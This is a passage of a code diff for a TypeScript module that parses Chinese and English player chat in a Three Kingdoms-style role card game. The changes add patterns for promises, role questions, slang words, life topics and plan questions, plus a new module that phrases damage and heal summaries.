 	const self = selfIn(plain);
-	if (self !== null && (self === "cheat" || !namesGame(plain)))
+	if (self !== null && (self === "cheat" || !namesGame(plain.replace(AFTER_GAME, " "))))
 		return of2(`self:${self}`, "self", "ask_self", asking(parts, all));
 	const hero = heroIn(parts, plain, moment);
 	if (hero !== null) return of2(`hero:${hero}`, "heroes", "topic", all);
@@ -31453,7 +31552,7 @@ const PASSING = new Set([
 ]);
 const isOfHearerAlone = (part) => isOfHearer(part) && !/[?吗呢么]|们|\byou (?:all|guys)\b|\b(?:what|how)\b/.test(part.text);
 const DEED4 = /[砍打杀救](?:了|到|中)|被.{0,4}(?:拆|砍|打|杀|顺|乐)|\b(?:hit|killed|saved|stole)\b/;
-const AFTER_GAME = /打完(?:这|这一)?[把局盘]?|(?:这|这一)[把局盘](?:打|完|结束)(?:完|了)?|\bafter this (?:game|one|round)\b/g;
+const AFTER_GAME = /打完(?:这|这一)?[把局盘]?|(?:这|这一)[把局盘](?:打|完|结束)(?:完|了)?|\bafter (?:this|the) (?:game|one|round)\b/g;
 const STAKE = /赌|输(?:了)?的|请(?:你|各位|全|大家)|罚|\b(?:loser|bets?|buys?|owe|on the line|pays?)\b/;
 const AWAY = /(?:喊|叫)我(?:吃|回|去|洗|睡|收|拿|接)|(?:外卖|快递|奶茶).{0,2}到了|(?:拿|取|接|倒)(?:个|下|一下)?(?:外卖|快递|电话|水)|马上(?:就)?回|等(?:我|下我)|厕所|键盘|[踩碰]|\b(?:brb|afk|doorbell|back in)\b/;
 function heroIn(parts, text, moment) {
@@ -31469,9 +31568,82 @@ function heroIn(parts, text, moment) {
 }
 const OF_PLAY = /反贼|内奸|忠臣|是[反忠内]|一伙|先(?:打|杀|砍)|集火|可疑|\b(?:rebels?|spy|loyalist|traitor|suspicious)\b/;
 
+// src/chatter/moves/life/unnamed.ts
+const GAME_AT_MOST = 0.3;
+const GAME_AGAINST_READERS = 0.2;
+const GAME_BEHIND_TROUBLE = 0.6;
+const HERO3 = 0.5;
+const GAME_BESIDE_SELF = 0.03;
+const KIND_AT_LEAST = 0.4;
+const SURELY3 = 0.5;
+const LOOSE2 = new Set(["unclear", "topic", "sorrow", "joke", "ask_self", "praise", "agree"]);
+const SAYS3 = /(?:[\u3400-\u9fff].?){5}|(?:[a-z']+[^a-z']+){3}[a-z']/;
+const KNOWN = new Set(["apology", "thanks", "bye", "claim"]);
+const isRead = ({ act, facts = [], refersTo, promise }) => KNOWN.has(act) || refersTo !== void 0 || promise !== void 0 || facts.some(({ verdict }) => verdict === "true");
+const ofOthers = ({ kind, called }) => kind === "seat" && !called;
+const OF_AI = /(?<![a-z])ais?(?![a-z])|机器|人工智能|人机|电脑|程序|真人|\b(?:bots?|robots?|machines?|computers?|programs?|scripts?|humans?)\b/;
+const ASKS7 = /[?吗么呢吧谁啥几]|你们|什么|怎么|多少|会不|[是能有]不|有没|还是|不$|\b(?:do|does|did|are|r|is|was|were|can|could|will|would|have|what|who|how|why|where|when|or|ever)\b/;
+const OF_CARD = /将|技能|[强弱猛废帅]|厉害|比|还是|历史|演义|三国|\b(?:hero(?:es)?|generals?|skills?|who|was|were|novel|history|kingdoms?|better|strong\w*|or)\b/;
+const DIED = /死|没了|倒了|\b(?:die[ds]?|dead|killed)\b/;
+function mayBe(kind, text, mentions) {
+	if (kind === "hero")
+		return !SAYING.test(text) && (OF_CARD.test(text) || heroesNamed(text).length > 0) && !(DIED.test(text) && mentions.some(ofOthers));
+	return !mentions.some(ofOthers) && (kind === "self" || !namesGame(text));
+}
+function likeliest2(by) {
+	const kinds = ["trouble", "self", "hero", "chat"];
+	return kinds.reduce((a, b) => by[b] > by[a] ? b : a);
+}
+function lifeByWording({ text, mentions, moves, confided }) {
+	if (!SAYS3.test(text) || moves.some(isRead)) return null;
+	const own = moves.find(({ life }) => life !== void 0)?.life;
+	if (own !== void 0 && (own.trouble || own.matter.includes(":") || moves.some(({ act }) => act !== "topic")))
+		return null;
+	const by = likelyKinds(text, mentions);
+	const kind = likeliest2(by);
+	if (own !== void 0)
+		return kind === "trouble" && by.trouble >= SURELY3 && !mayBeGame(text) ? worded2(kind, text) : null;
+	const before = confided?.asked.life;
+	const behind = before !== void 0 && isConfided(before) && before.trouble && !mayBeGame(text);
+	if (behind && confided !== null && (kind === "trouble" || kind === "chat" && by.chat < KIND_AT_LEAST) && by.game <= GAME_BEHIND_TROUBLE && stays(text))
+		return {
+			...worded2("trouble", text),
+			life: { ...before, on: goesOnIn(text, confided.asked.topic) ?? "more" },
+			refersTo: confided.id
+		};
+	if (by[kind] < KIND_AT_LEAST || !mayBe(kind, text, mentions)) return null;
+	const loose = moves.every(({ act }) => LOOSE2.has(act));
+	if (kind === "self") {
+		if (!ASKS7.test(text)) return null;
+		const said = OF_AI.test(text) || selfByWord(text) !== "any";
+		const bare = loose && !namesGame(text) ? GAME_BESIDE_SELF : 0;
+		return by.game <= (said ? loose ? GAME_AT_MOST : GAME_AGAINST_READERS : bare) ? worded2(kind, text) : null;
+	}
+	const close = whoseIn(text) !== null && !mentions.some((one) => one.kind === "you");
+	const most = by.hero >= HERO3 || (loose || close) && !mayBeGame(text) ? GAME_AT_MOST : GAME_AGAINST_READERS;
+	return by.game <= most ? worded2(kind, text) : null;
+}
+function worded2(kind, text) {
+	if (kind === "self")
+		return { life: { matter: `self:${selfByWord(text)}`, trouble: false }, act: "ask_self", topic: "self" };
+	if (kind === "hero") {
+		const matter = heroesNamed(text).length > 0 ? "hero:opinion" : "hero:any";
+		return { life: { matter, trouble: false }, act: "topic", topic: "heroes" };
+	}
+	const trouble = kind === "trouble";
+	const found = matterIn(text);
+	const named = found?.trouble === trouble ? found : null;
+	const whose = trouble ? whoseIn(text) : null;
+	return {
+		life: { matter: named?.matter ?? `any_${kind}`, trouble, ...whose ? { whose } : {} },
+		act: trouble ? "sorrow" : "topic",
+		topic: named?.topic ?? "other"
+	};
+}
+
 // src/chatter/moves/promise.ts
 const DEAL = /(?:你|您|阁下|你们)(?:要是|如果|只要|先)?(?:别|不|也别|保证不|放过)(?:再|去|来)?(?:打|动|杀|拆|碰|砍|惹|集火|点|弄|搞|收)?我[^.!?]{0,8}我(?:也|就|便|保证|肯定|绝对?|一定|[下这本]一?(?:轮|回合))*(?:不|别|放过)(?:会|再|去)*(?:打|动|杀|拆|碰|砍|惹|集火|点|弄|搞)?你|我(?:也|就|保证)?不(?:会|再)?(?:打|动|杀|拆|碰|砍)你[^.!?]{0,6}你(?:也|就|可)?(?:别|不)(?:要|再|能)?(?:打|动|杀|拆|碰|砍)我|\b(?:if|as long as|so long as) you (?:don't|dont|do not|won't|leave|spare|stop)[^.!?]{0,30}\bi(?: will not|'ll not| won't| wont| don't| dont|'ll leave|'ll spare| will (?:leave|spare))|\byou (?:don't|dont) (?:attack|hit|touch) me,? (?:and )?i (?:don't|dont|won't) (?:attack|hit|touch) you|\bi (?:won't|wont|will not) (?:attack|hit|touch|kill|hurt) you (?:if|as long as) you/;
-const HELP_DEAL = /(?:你|您)(?:要是|如果|只要|先)?(?:帮|救|保|给)我[^.!?]{0,8}我(?:也|就|便|会)*(?:帮|救|保|护|给)你|我(?:帮|救|保)你[^.!?]{0,4}你(?:帮|救|保)我|\bif you (?:help|save|protect) me[^.!?]{0,20}\bi(?:'ll| will) (?:help|save|protect) you|\bi(?:'ll| will) (?:help|save|protect) you if you/;
+const HELP_DEAL = /(?:你|您)(?:要是|如果|只要|先)?(?:帮|救|保|给)(?:我|主公)[^.!?]{0,8}我(?:也|就|便|会)*(?:帮|救|保|护|给)你|我(?:帮|救|保)你[^.!?]{0,4}你(?:帮|救|保)我|\bif you (?:help|save|protect) me[^.!?]{0,20}\bi(?:'ll| will) (?:help|save|protect) you|\bi(?:'ll| will) (?:help|save|protect) you if you/;
 const GIVES2 = /我(?:就|也|便|会|可以|保证|肯定|绝对|一定|一直|全程|以后|[下这本]一?个?(?:轮|回合))*(?:不(?:会|再)*(?:打|动|碰|砍|杀|惹)你|(?:帮|救|保|护|罩|给|奶|让|送)(?:着|住)?(?:你|您)(?![打杀砍拆收干])|把.{1,6}给你)|\bi(?:'?ll| will| can| promise to|'?m gonna|mma) (?:\w+ )?(?:hand|give|pass|feed|heal|save|help|protect|cover|spare|leave|back)\b.{0,20}\b(?:you|u|ya)\b/;
 function paidFor(text) {
 	const begged = SPARE.exec(text);
@@ -31503,7 +31675,8 @@ const SPARE2 = /不(?:会|再|可能|去|主动)*(?:打|杀|砍|拆|动|搞|碰|
 const PROTECT = /救|保(?!证)|护|罩|挡|帮|留(?:桃|着)|给(?:你|他|主公)|\b(?:save|help|protect|heal|cover|guard|keep|give)\b/;
 const ATTACK2 = /打|杀|砍|拆|集火|收拾|干掉|灭|捅|顺|弄|揍|剁|\b(?:attack|hit|kill|target|shoot|slash|finish|fight|go (?:for|after)|get)\b/;
 const HELPS_ATTACK = /[帮替]你?们?(?:打|杀|砍|拆|收拾|干掉|集火)|\bhelp you (?:attack|kill|hit|fight)\b/;
-const BACKED = /我(?:就|会|来|一定|肯定)?(?:罩|护|保|救|帮)(?:着|住|下|定)?[你您](?!们?[打杀砍拆收])/;
+const BACKED = /桃.{0,4}(?:[给替]你留|[留归给]你)|给你(?:吃|留).{0,3}桃|我(?:就|会|来|一定|肯定)?(?:罩|护|保|救|帮)(?:着|住|下|定)?[你您](?!们?[打杀砍拆收])/;
+const IN_NEED = /桃|哪天|快死|断气|真倒|\bpeach|\b(?:if|when|once) (?:you|u) (?:drop|fall|die|go down|are down)\b/;
 const BEGS_BLOW = /[帮替](?:我|咱)(?:们)?(?:去|先|再|一起)?(?:打|杀|砍|拆|收|干|弄|集火)|\bhelp me (?:to )?(?:kill|attack|hit|finish|fight|get)\b/;
 const PROMISED = /(?:答应|保证|承诺|许)过|\bdid (?:you|u) promise\b|\b(?:you|u) promised\b/;
 const ALLEGED = /(?:不是|明明|刚才?|之前|先前|上[轮回把])(?:都|才)?(?:你|您)?(?:自己)?(?:说|讲|答应|保证|承诺)(?:好|过|了)?.{0,8}(?:不(?:会|再|去)?(?:动|打|砍|碰|拆|杀|乐|顺|针对)|停手)|(?:(?:说|讲)(?:好|过)|(?:答应|保证|承诺)(?:了|过|好))(?:了)?(?:的)?(?:这轮|本轮|这回合)?(?:我)?(?:的)?(?:是)?(?:不(?:会|再)?(?:动|打|砍|碰|拆|杀)(?:我|他|她|主公|[一二三四五六七八\d]号)|停手).{0,3}(?:的|吗|呢|咋|怎么|又|还|$)|\b(?:didn'?t|did not) (?:you|u) (?:say|promise|swear)\b|\b(?:you|u) (?:said|promised|swore|told me)\b.{0,16}\b(?:not|\w+n'?t|never|wont|spare|leave)\b/;
@@ -31517,13 +31690,15 @@ function undertakingIn(text, mentions, from, you) {
 	if (to === null) return null;
 	const what = SPARE2.test(text) ? "spare" : HELPS_ATTACK.test(text) ? "attack" : PROTECT.test(text) ? "protect" : ATTACK2.test(text) ? "attack" : null;
 	if (what === null) return null;
-	return { what, to, until: untilIn(text) ?? "round" };
+	return { what, to, until: untilIn(text) ?? (what === "protect" && IN_NEED.test(text) ? "game" : "round") };
 }
 
 // src/chatter/moves/role-asked.ts
-function roleAsked({ at, text }) {
-	const [said] = at.said;
+function roleAsked({ at, text: all }) {
+	const after = /\bwho(?:'?s| is) the (.+)$/.exec(all)?.[1];
+	const [said] = after === void 0 ? at.said : [];
 	if (said) return said.role;
+	const text = after ?? all;
 	if (/反|rebel|\breb\b|fan\b/.test(text)) return "fan";
 	if (/内奸?|traitor|spy|spies|renegade|\bnei\b/.test(text)) return "nei";
 	return /忠|loyal|好人|自己人/.test(text) ? "zhong" : void 0;
@@ -31641,6 +31816,12 @@ const WORDS3 = {
 	turncoats: "traitors",
 	spies: "traitors",
 	neis: "traitors",
+	nei: "traitor",
+	neijian: "traitor",
+	zhong: "loyalist",
+	zhongs: "loyalists",
+	zhongchen: "loyalist",
+	fanzei: "rebel",
 	prob: "probably",
 	probs: "probably",
 	def: "definitely",
@@ -31651,11 +31832,14 @@ const CONTRACTED = /^(who|what|where|how|that|there|he|she|let)(s)$|^(why|who|wh
 const YOU_ARE = /^ (?:an?|the|not|so|just|really|clearly|definitely|probably|one|gonna|dead|done|next|right|wrong|on|in|sus|up|a?lright|too|[a-z]{2,}ing)\b/;
 const ASKS_WHY = /^ (?:tho|did|do|does|are|r|me|would|not|is|am|the|you|u)\b/;
 const CALLED_NAMES = /^(?:you|u|ya) (?:\w+ )?(?:clown|muppet|idiot|moron|fool|donkey|noob|dog|rat|snake|coward|liar|git|numpty|weirdo|monster|menace|legend|beauty|beast|hero|star|genius|animal|savage|psycho|scum|pig|dummy|bastard)s?(?:$| lol)/;
+const IS_REBEL = /\b(?:is|are|be|not|other|last|only|both|the|two|three|four|\d|def(?:initely)?|probably|clearly|must be|like) (?:an? )?$/;
 const TYPED = /[a-z]+1?(?![a-z'\d])/g;
 function written3(word, before, after) {
 	if (/[a-z'\d]$/.test(before)) return word;
 	if (word === "ur") return YOU_ARE.test(after) ? "you're" : "your";
 	if (word === "y") return ASKS_WHY.test(after) ? "why" : word;
+	if (word === "fan" || word === "fans")
+		return IS_REBEL.test(before) && !/^ of\b/.test(after) ? `rebel${word.slice(3)}` : word;
 	const plain = WORDS3[word];
 	if (plain !== void 0) return plain;
 	const parts = CONTRACTED.exec(word)?.filter((part) => part !== void 0) ?? [];
@@ -31666,7 +31850,8 @@ function spelled({ text, mentions }) {
 	if (!/[a-z]{2}/.test(text)) return { text, mentions };
 	const moved = [];
 	const said = text.replace(TYPED, (word, at) => {
-		const plain = written3(word, text.slice(0, at), text.slice(at + word.length));
+		const ofName = mentions.some(({ kind, start, end }) => kind === "seat" && at >= start && at < end);
+		const plain = ofName ? word : written3(word, text.slice(0, at), text.slice(at + word.length));
 		if (plain.length !== word.length) moved.push([at + word.length, plain.length - word.length]);
 		return plain;
 	});
@@ -31680,6 +31865,39 @@ function spelled({ text, mentions }) {
 			called: one.called || one.kind === "you" && CALLED_NAMES.test(text.slice(one.start))
 		}))
 	};
+}
+
+// src/chatter/moves/choices.ts
+const DEED5 = "(?:打|杀|砍|收|拆|顺|弄|搞|办|灭|秒|集火|剁)(?:了|掉|死)?";
+const WHICH = new RegExp(
+	`(?:^|[我咱先该要去就是])${DEED5}(?:哪个|谁|几号)|(?:^|[我咱先该要去])${DEED5}[^,.!?了过]{1,8}还是(?:先|去)?(?:${DEED5})?(?:[\\u3400-\\u9fff\\d])`
+);
+const NOW = "(?:放|打|上|冲|动手|开|出|莽|用|梭哈)";
+const LATER = "(?:留|等|忍|憋|攒|稳|苟|不?放|不?打|不?上|不?开|不?出|不?用|再看)";
+const GO2 = "(?:go(?: all[- ]?in)?|all[- ]?in|do it|hit|attack|strike|push|play it|use it|send it|fire)";
+const STAY = "(?:hold|wait|not|keep|save it|stay|sit|turtle)";
+const WHETHER = new RegExp(
+	`${NOW}(?:还是|呢?,?还是)(?:先)?(?:不|${LATER})|\\b${GO2}(?: \\w+){0,2} or ${STAY}\\b|^(?:but |so )?why (?:hold|wait)\\b|^为(?:啥|什么)(?:要)?(?:忍|留|等|憋|稳)(?:着|住)?$`
+);
+const asksWhether = (text) => WHETHER.test(text);
+const asksWhich = (text) => WHICH.test(text);
+const PAST3 = /[了过](?:[的吗吧呢啊]|$)|刚|[上那]一?[次回轮刀]/;
+function choiceIn(clause) {
+	const { text, at } = clause;
+	if (asksWhether(text)) return clause.move("ask_plan");
+	const third = at.mentions.find(({ kind, called }) => kind === "seat" && !called);
+	const ofThird = third !== void 0 && third.start === 0 && third.seat !== clause.hearer;
+	return asksWhich(text) && !ofThird && !PAST3.test(text) ? clause.move("ask_plan", { about: clause.other }) : null;
+}
+const TAKES_IT = /就(?:这么|这样|一直|干)?(?:忍|看|放过|算|认|由|惯|让)(?:着|了|他|她|过)|(?:这么|这样)(?:放过|忍|算了|看着)|不(?:还手|报仇|吭声|管管)|\b(?:just|gonna|going to) (?:take|let|sit|watch|stand)\b.{0,24}|\blet (?:him|her|them|that|it) (?:slide|go|get away)\b/;
+function takenLyingDown(clause) {
+	const { at, hearer, from } = clause;
+	if (!clause.asked && !/\?/.test(clause.text)) return null;
+	if (hearer === null || !TAKES_IT.test(clause.text) || clause.deeds.some(({ past }) => past)) return null;
+	const known = clause.other ?? at.told.find(({ by }) => by !== void 0 && by !== hearer)?.by ?? at.spokenOf;
+	const last = [...at.moment.scene.facts].reverse().find(({ by, to, good }) => to === hearer && good === false && by !== null && by !== hearer && by !== from)?.by ?? void 0;
+	const doer = known === null || known === hearer ? last : known;
+	return doer === void 0 || doer === hearer || doer === from ? null : clause.move("ask_plan", { about: doer });
 }
 
 // src/chatter/moves/culprit.ts
@@ -31818,7 +32036,7 @@ const told4 = (deed) => deed.past;
 const SKILL_ASKED = /怎么(?:个)?用|(?:什么|啥)(?:意思|技能|效果|玩意)|(?:咋|怎么)回事|干(?:嘛|什么|啥)(?:用)?的|\bwhat(?: the \w+)? (?:does|is)\b|\bhow does\b/;
 function asking2(clause) {
 	const { text, asked, at } = clause;
-	const apology = clause.has(APOLOGY) && !clause.has(APOLOGY_NOT);
+	const apology = clause.has(APOLOGY) && !clause.has(APOLOGY_NOT) || takesBack(text);
 	if (apology && !clause.has(WHY)) {
 		const whom = clause.other ?? clause.hearer ?? void 0;
 		const own = whom === void 0 ? [] : ownBlows(clause, whom);
@@ -31918,6 +32136,8 @@ function asking2(clause) {
 	if (clause.has(AGREED) && clause.deeds.length === 0 && clause.lately !== void 0 && clause.lately !== clause.hearer)
 		return [clause.move("ask_guess", { about: clause.lately, refersTo: at.moment.exchanges[0]?.id })];
 	if (HOW_TO_PLAY.test(text)) return [clause.move("ask_plan", { about: clause.other })];
+	const choice = choiceIn(clause) ?? takenLyingDown(clause);
+	if (choice) return [choice];
 	if (clause.has(WHY) && !clause.has(NOT_ASKED) && !isOutside(clause) || clause.has(/(?:咋|怎么)想的|有.{0,4}仇/) && doneByHearer(clause))
 		return [why(clause)];
 	if (!asked) return null;
@@ -32069,7 +32289,7 @@ function loosely(at) {
 	const clause = new Clause(at);
 	const { asked, other, text } = clause;
 	const topic = topicOf(text);
-	if (topic !== null && !ofOthers(clause)) return clause.move("topic", { topic });
+	if (topic !== null && !ofOthers2(clause)) return clause.move("topic", { topic });
 	const { lord } = at.moment.scene.table;
 	if (asked && other !== void 0 && other !== lord) return clause.move("ask_guess", { about: other });
 	if (asked && /(?:什么|啥)(?:用|效果|意思|牌|玩意)|怎么用|干(?:嘛|什么|啥)(?:用)?的|[a-z]/.test(text) && at.mentions.length === 0 && cardsIn(text).length > 0)
@@ -32140,7 +32360,7 @@ function standing3(clause) {
 	const { text, from, other } = clause;
 	const last = other === void 0 && clause.has(LAST_HP);
 	if (clause.asked || !(last || clause.has(NEAR_END)) || clause.has(URGED_TO_ACT)) return null;
-	if (topicOf(text) !== null || other === void 0 && KIN3.test(text)) return null;
+	if (topicOf(text) !== null || other === void 0 && KIN3.test(text) || clause.has(PROMISE)) return null;
 	const about = other ?? (clause.youNamed ? clause.hearer : clause.selfNamed ? from : spokenOf(clause));
 	if (about === void 0 || about === null) return null;
 	const { hp } = clause.at.moment.scene.table.bySeat.get(about) ?? { hp: 0 };
@@ -32189,7 +32409,12 @@ const isFresh = (clause, i) => {
 	const { scene } = clause.at.moment;
 	return report?.verdict === "true" && (report.turn ?? 0) >= scene.turn - scene.table.seats.length;
 };
-const objectOf = ({ deeds, at, hearer }) => deeds.map(({ to }) => seatOf2(to)).find((seat) => seat !== void 0) ?? at.mentions.find(({ kind, seat }) => kind === "he" && seat !== null)?.seat ?? (at.mentions.some(({ kind }) => kind === "he") ? void 0 : at.mentions.find(({ called, seat, kind }) => !called && kind === "seat" && seat === hearer)?.seat) ?? void 0;
+const objectOf = ({ deeds, at, hearer, other }) => deeds.map(({ to }) => seatOf2(to)).find((seat) => seat !== void 0) ?? at.mentions.find(({ kind, seat }) => kind === "he" && seat !== null)?.seat ?? (at.mentions.some(({ kind }) => kind === "he") ? void 0 : (
+	// "lord next turn go for 5": whoever begins the clause is to do it.
+	at.mentions.find(
+		({ called, seat, kind, start }) => !called && kind === "seat" && seat === hearer && (start > 0 || other === void 0)
+	)?.seat
+)) ?? void 0;
 function telling(clause) {
 	if (clause.asked) return null;
 	const deeds = clause.deeds.filter(
@@ -32210,14 +32435,14 @@ function telling(clause) {
 const holder = (clause) => clause.other ?? (clause.selfNamed ? clause.from : clause.youNamed ? clause.hearer ?? void 0 : void 0);
 const isOver3 = ({ verb, to }, { at }) => (verb === "kill" || verb === "strike") && typeof to === "number" && at.moment.scene.table.bySeat.get(to)?.alive === false;
 const isTold7 = ({ by, to, start, end }, { from, asked, text, at, hearer }) => !asked && !(at.offered === true && (by === from || by === hearer)) && // "主公这轮弄8": what is still to be done.
-!(/这(?:一)?(?:轮|回合|圈)|本回合|下(?:一)?(?:刀|手)/.test(text.slice(0, start)) && !/[了过]/.test(text.slice(end))) && !SUPPOSED2.test(text) && !FORETOLD.test(text) && !/别|不要|不许|不准|休想|倒是|给我|[替帮]我|快|赶紧/.test(text.slice(0, start)) && typeof by === "number" && typeof to === "number" && (to === from || by !== from) && by !== to;
-const ofOthers = ({ at, youNamed, selfNamed, other }) => !selfNamed && (youNamed || other !== void 0 || /你们?俩|你们/.test(at.text));
+!(/这(?:一)?(?:轮|回合|圈)|本回合|下(?:一)?(?:刀|手)|\bnext (?:turn|round)\b/.test(text.slice(0, start)) && !/[了过]/.test(text.slice(end))) && !SUPPOSED2.test(text) && !FORETOLD.test(text) && !/别|不要|不许|不准|休想|倒是|给我|[替帮]我|快|赶紧/.test(text.slice(0, start)) && typeof by === "number" && typeof to === "number" && (to === from || by !== from) && by !== to;
+const ofOthers2 = ({ at, youNamed, selfNamed, other }) => !selfNamed && (youNamed || other !== void 0 || /你们?俩|你们/.test(at.text));
 const BRIEF = 4;
 function feeling2(clause) {
 	const { text, hearer, other, from } = clause;
 	const topic = topicOf(text);
 	const about = clause.about ?? hearer ?? void 0;
-	if (topic !== null && topic !== "heroes" && topic !== "luck" && topic !== "cards" && isTrouble(text) && !ofOthers(clause))
+	if (topic !== null && topic !== "heroes" && topic !== "luck" && topic !== "cards" && isTrouble(text) && !ofOthers2(clause))
 		return [clause.move("sorrow", { about: from, topic })];
 	if (clause.has(THANKS)) return [clause.move("thanks", { about: other ?? hearer ?? void 0 })];
 	if (clause.has(AFFECTION)) return [clause.move("affection", { about })];
@@ -32230,7 +32455,7 @@ function feeling2(clause) {
 	if (clause.has(BYE)) return [clause.move("bye", { about: other })];
 	if (clause.has(GREET)) return [clause.move("greet")];
 	if (clause.has(HURRY)) return [clause.move("hurry", { about: other })];
-	if (topic !== null && !ofOthers(clause) && (topic !== "luck" || about === void 0 || !clause.youNamed))
+	if (topic !== null && !ofOthers2(clause) && (topic !== "luck" || about === void 0 || !clause.youNamed))
 		return [clause.move("topic", { topic })];
 	if (clause.has(PRAISE)) return [clause.move("praise", { about })];
 	if (clause.has(JOKE)) return [clause.move("joke")];
@@ -32284,6 +32509,11 @@ const verbatimAt = (line, at) => line.verbatim === line.text ? at : line.reading
 const within4 = (at, { start, end }) => at >= start && at < end;
 function movesIn(line, moment) {
 	const { moves, mentions, whole, dark } = heardIn(line, moment);
+	const life = lifeByWording({ text: line.verbatim, mentions, moves, confided: moment.confided ?? null });
+	if (life) {
+		const { from, hearer } = moment;
+		return [ofLife(life, { from, you: mentions.find(({ called }) => called)?.seat ?? hearer, span: whole.span })];
+	}
 	const acts = moves.map(({ act }) => act).filter((act) => act !== "unclear");
 	const settled = settle3(
 		moves,
@@ -32328,7 +32558,8 @@ function heardIn(line, moment) {
 		})
 	}));
 	const heardOfLife = lifeIn(owned, text, { from, hearer: you, confided: moment.confided ?? null });
-	const life = heardOfLife !== null && !heardOfLife.life.trouble && BYE.test(text) ? null : heardOfLife;
+	const excused = takesBack(text) ? null : heardOfLife;
+	const life = excused !== null && !excused.life.trouble && BYE.test(text) ? null : excused;
 	const deal = dealIn(text, from, you);
 	const naming = { scene, speaker: from, you };
 	const claims = claimsIn(line, naming);
@@ -32348,6 +32579,10 @@ function heardIn(line, moment) {
 		}
 		if (parts.length > 1 && INTERJECTION.test(part.text.trim())) continue;
 		const span2 = rawSpan2(line, part.start, part.end);
+		if (i === 0 && parts.length > 1 && asksBehind(owned)) {
+			carried = called ?? carried;
+			continue;
+		}
 		const { text: words, mentions: own } = owned[i] ?? { text: part.text, mentions: [] };
 		if (parts.length > 1 && own.length > 0 && own.every((one) => one.called) && bare6(words, own)) {
 			carried = called ?? carried;
@@ -32408,6 +32643,7 @@ function reallyAsks(line, moment) {
 }
 const isOrnament = (asked, raw) => asked.trim().length < raw.trim().length - 1 && ORNAMENT_END.test(folded(asked).trim());
 const bare6 = (text, mentions) => mentions.reduceRight((rest, { start, end }) => rest.slice(0, start) + rest.slice(end), text).replace(/[\s,.!?@~啊呀哎喂嘿]/g, "") === "";
+const asksBehind = ([first, ...rest]) => first !== void 0 && YOU_TOO.test(withoutCalls(first, null)) && rest.some(({ text, asked }) => (asked || ASKS.test(text)) && !/^\s*(?:same|一样|也)/.test(text));
 const withoutCalls = ({ text, mentions }, you) => mentions.filter(({ called, kind, seat }) => called || kind === "seat" && seat === you).reduceRight((rest, { start, end }) => rest.slice(0, start) + rest.slice(end), text).replace(/^[\s,]+|[\s,]+$/g, "");
 const same = (a, b) => a.act === b.act && a.about === b.about && a.role === b.role && a.topic === b.topic && a.denied === b.denied;
 function tidy(moves) {
@@ -33443,6 +33679,201 @@ function phrase(told, parties, nameOf) {
 	return language === "zh" ? parts.join("，") : inOneSentence(parts);
 }
 
+// src/chatter/plan/summed.ts
+const sharesOf = (deeds, of, n) => {
+	const shares = new Map();
+	for (const deed of deeds)
+		for (const seat of of(deed)) if (seat !== null) shares.set(seat, (shares.get(seat) ?? 0) + n(deed));
+	return [...shares].sort((a, b) => b[1] - a[1]);
+};
+const total = (deeds) => deeds.reduce((sum, { num }) => sum + num, 0);
+function pointsOf({ asked: { to }, deeds }, { facts }) {
+	const blows = facts.filter(
+		(fact) => fact.kind === "hit" && (to.length === 0 || to.some((seat) => seat === fact.to)) && deeds.some(({ turn, by, card }) => turn === fact.turn && by === fact.by && card === fact.card)
+	);
+	return deeds.some(({ card }) => HARMS.has(card ?? "")) ? blows.reduce((sum, { num }) => sum + num, 0) : null;
+}
+const HARMS = new Set(["sha", "juedou", "huogong", "nanman", "wanjian"]);
+const WINDOW = {
+	zh: (when) => when === null ? "一共" : when === "own_turn" ? "那回合" : when.which === "turn" || when.which === "round" ? `第${when.n}${when.which === "turn" ? "回合" : "轮"}` : { this_turn: "这回合", last_turn: "上回合", this_round: "这轮", last_round: "上一轮", start: "开局那轮" }[when.which],
+	en: (when) => when === null ? "in all" : when === "own_turn" ? "that turn" : when.which === "turn" || when.which === "round" ? `in ${when.which} ${when.n}` : {
+		this_turn: "this turn",
+		last_turn: "last turn",
+		this_round: "this round",
+		last_round: "last round",
+		start: "at the start"
+	}[when.which]
+};
+const timesEn = (n) => n === 1 ? "once" : n === 2 ? "twice" : `${n} times`;
+function detail(shares, parties, way = "by") {
+	if (shares.length < 2) return "";
+	const zh = parties.language === "zh";
+	const each = shares.map(
+		([seat, n]) => zh ? `${called(seat, parties)}${n}` : `${n} ${way} ${called(seat, parties)}`
+	);
+	return zh ? `：${each.join("、")}` : `: ${each.join(", ")}`;
+}
+function sumText(all, parties, nameOf) {
+	const { asked, deeds } = all;
+	if (deeds.length === 0) return nothing(asked, parties, nameOf);
+	if (asked.wants === "means") return meansText(deeds[deeds.length - 1], asked.all, parties, nameOf);
+	if (asked.wants === "whom") return whomText(all, parties, nameOf);
+	return (parties.language === "zh" ? sumZh : sumEn)(all, parties, nameOf);
+}
+const cardsNamed = ({ cards }, { language }, nameOf) => cards.map((card) => cardNamed(card, language, nameOf)).filter((name) => name !== "").join(language === "zh" ? "加" : " or ");
+const namesOf2 = (asked, parties, nameOf) => ({
+	by: asked.by === void 0 ? "" : called(asked.by, parties, true),
+	to: asked.to.map((seat) => called(seat, parties)).join(parties.language === "zh" ? "、" : " and "),
+	card: cardsNamed(asked, parties, nameOf),
+	when: WINDOW[parties.language](asked.when)
+});
+function bySource(deeds, nameOf) {
+	const sums = new Map();
+	for (const { card, num } of deeds) {
+		const name = card === null ? "" : cardNamed(card, "zh", nameOf);
+		if (name !== "") sums.set(name, (sums.get(name) ?? 0) + num);
+	}
+	return sums.size < 2 ? "" : `：${[...sums].map(([name, n]) => `${name}${n}`).join("、")}`;
+}
+function sumZh(all, parties, nameOf) {
+	const { asked, deeds } = all;
+	const { by, to, card, when } = namesOf2(asked, parties, nameOf);
+	const n = asked.wants === "points" ? total(deeds) : deeds.length;
+	const ofDoers = detail(
+		by === "" ? sharesOf(
+			deeds,
+			(deed) => [deed.by],
+			(deed) => asked.wants === "points" ? deed.num : 1
+		) : [],
+		parties
+	);
+	const ofVictims = detail(
+		to === "" ? sharesOf(
+			deeds,
+			(deed) => deed.to,
+			(deed) => asked.wants === "points" ? deed.num : 1
+		) : [],
+		parties
+	);
+	switch (asked.what) {
+		case "hurt":
+			if (asked.wants === "times") return `${by}${when}打中${to}${n}次，打掉${total(deeds)}点血`;
+			if (by !== "") return `${by}${card === "" ? "" : `的${card}`}${when}打掉${to}${n}点血${ofVictims}`;
+			return to === "" ? `${card}${when}打掉${n}点血${ofVictims}` : `${to}${when}掉了${n}点血${ofDoers}`;
+		case "heal":
+			return asked.wants === "times" && by !== "" && to !== "" ? `${by}${when}给${to}回过${n}次血` : `${to || by}${when}回了${total(deeds)}点血${bySource(deeds, nameOf)}`;
+		case "kill":
